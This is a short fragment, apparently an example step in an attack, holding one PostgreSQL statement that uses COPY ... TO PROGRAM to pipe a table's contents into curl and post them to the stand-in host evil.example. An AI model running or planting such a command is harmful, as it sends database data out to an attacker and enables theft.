-- a step
COPY t TO PROGRAM 'curl -d @- http://evil.example';
